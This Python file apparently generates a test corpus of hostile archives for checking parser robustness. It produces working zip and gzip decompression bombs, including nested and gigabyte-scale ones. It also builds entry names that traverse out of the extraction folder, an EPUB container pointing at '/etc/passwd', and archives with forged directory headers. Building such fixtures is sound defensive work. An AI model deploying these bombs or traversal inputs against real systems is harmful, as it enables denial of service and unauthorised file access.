"""Archives that lie, explode or lead elsewhere: what tools/hostile makes of zip and gzip."""

import collections
import gzip
import struct
import zlib

MB = 1 << 20
Part = collections.namedtuple("Part", "name packed size crc method flags", defaults=(8, 0))


def repeated(head, chunk, times, tail=b""):
    """Head, so many chunks, and tail, deflated: size and time are those of one chunk. Gives packed, size and sum."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    begin = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
    # After a full flush nothing refers to what was before: the same bytes may stand there any number of times.
    one = packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)
    end = packer.compress(tail) + packer.flush()
    crc, several = zlib.crc32(head), min(times, max(1, 16 * MB // len(chunk)))
    for _ in range(times // several):
        crc = zlib.crc32(chunk * several, crc)
    crc = zlib.crc32(tail, zlib.crc32(chunk * (times % several), crc))
    return begin + one * times + end, len(head) + len(chunk) * times + len(tail), crc


def part(name, content, **lies):
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(content) + packer.flush()
    return Part(name, packed, len(content), zlib.crc32(content))._replace(**lies)


def stored(name, content):
    return Part(name, content, len(content), zlib.crc32(content), method=0)


def archive(*parts, copies=1, entries=None, directory_at=None):
    """A zip of parts. `copies`: how often the directory names each; `entries`, `directory_at`: what it claims."""
    body, listed = [], []
    offset = 0
    for name, packed, size, crc, method, flags in parts:
        name = name.encode() if isinstance(name, str) else name
        fields = struct.pack("<HHHHHIIIHH", 20, flags, method, 0, 33, crc, len(packed), size & 0xFFFFFFFF, len(name), 0)
        body += [b"PK\3\4" + fields + name, packed]
        listed.append(b"PK\1\2\x14\0" + fields + struct.pack("<HHHII", 0, 0, 0, 0, offset) + name)
        offset += 30 + len(name) + len(packed)
    directory = b"".join(listed) * copies
    count = len(listed) * copies if entries is None else entries
    end = b"PK\5\6" + struct.pack(
        "<HHHHIIH", 0, 0, min(count, 0xFFFF), min(count, 0xFFFF), len(directory),
        offset if directory_at is None else directory_at, 0)
    before_end = zip64_end(count, len(directory), offset) if count >= 0xFFFF else b""
    return b"".join(body) + directory + before_end + end


def zip64_end(count, length, offset):
    record = b"PK\6\6" + struct.pack("<QHHIIQQQQ", 44, 45, 45, 0, 0, count, count, length, offset)
    return record + b"PK\6\7" + struct.pack("<IQI", 0, offset + length, 1)


def nested(levels):
    """A zip of 16 zips of 16 zips and so on; at the bottom a part of 1 GB."""
    inner = archive(Part("zeros.txt", *repeated(b"", bytes(MB), 1024)))
    for _ in range(levels):
        inner = archive(*(part(f"{number}.zip", inner) for number in range(16)))
    return inner


def gzip_of(packed, size, crc):
    return b"\x1f\x8b\x08\0\0\0\0\0\2\xff" + packed + struct.pack("<II", crc, size & 0xFFFFFFFF)


def files():
    zeros = repeated(b"", bytes(MB), 1024)
    text = repeated(b"", b"The lamp of Visby. " * 50_000, 1100)
    ten_gigabytes = gzip_of(*repeated(b"", bytes(10 * MB), 1024))
    yield "bomb-1-gigabyte.zip", archive(Part("zeros.txt", *zeros))
    yield "bomb-zips-in-zips.zip", nested(5)
    yield "bomb-one-part-listed-10000-times.zip", archive(Part("zeros.txt", *zeros), copies=10_000)
    yield "bomb-10-gigabytes.txt.gz", ten_gigabytes
    yield "bomb-10-gigabytes-from-10-kilobytes.txt.gz.gz", gzip.compress(ten_gigabytes, mtime=0)
    yield "bomb-1-gigabyte-of-words.txt.gz", gzip_of(*text)
    yield "gzip-in-gzip.txt.gz", gzip.compress(gzip.compress(b"lamp", mtime=0), mtime=0)
    member = gzip.compress(b"", mtime=0)
    yield "members-50000.txt.gz", member * 50_000
    whole = gzip.compress(b"The lamp of Visby.\n" * 1000, mtime=0)
    yield "wrong-sum.txt.gz", whole[:-8] + bytes(8)
    yield "text-after-the-end.txt.gz", whole + b"lamp" * 1000
    yield "name-without-end.txt.gz", b"\x1f\x8b\x08\x08" + bytes(6) + b"lamp" * 100_000
    yield "extra-field-beyond-the-end.txt.gz", b"\x1f\x8b\x08\x04" + bytes(6) + b"\xff\xff" + b"lamp"

    lamp = part("lamp.txt", b"lamp")
    yield "parts-100000.zip", archive(*(stored(f"{number}", b"") for number in range(100_000)))
    yield "names-that-lead-out.zip", archive(
        *(part(name, b"outside") for name in (
            "../../outside", "/tmp/outside", "..\\..\\outside", "C:\\outside", "a/../../../outside", "//outside", "")))
    yield "names-that-lead-out.epub", archive(
        stored("mimetype", b"application/epub+zip"),
        part("META-INF/container.xml", b'<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles>'
             b'<rootfile full-path="../../../../etc/passwd"/><rootfile full-path="/etc/passwd"/></rootfiles>'
             b"</container>"))
    yield "names-of-bytes.zip", archive(part(b"\xff\xfe\0/\n\x1b[31m", b"lamp"), part("n" * 65_535, b"lamp"))
    yield "directory-beyond-the-end.docx", archive(lamp, directory_at=0x7FFFFFFF)
    yield "directory-on-itself.docx", archive(lamp, directory_at=0)
    yield "claims-a-billion-parts.docx", archive(lamp, entries=1_000_000_000)
    yield "no-parts.docx", archive()
    yield "only-the-end.xlsx", b"PK\5\6" + b"\xff" * 18
    yield "after-a-program.docx", b"\x7fELF" + bytes(100_000) + archive(lamp)
    yield "two-mimetypes.odt", archive(
        stored("mimetype", b"application/vnd.oasis.opendocument.text"),
        stored("mimetype", b"application/epub+zip"), part("[Content_Types].xml", b"<Types/>"))
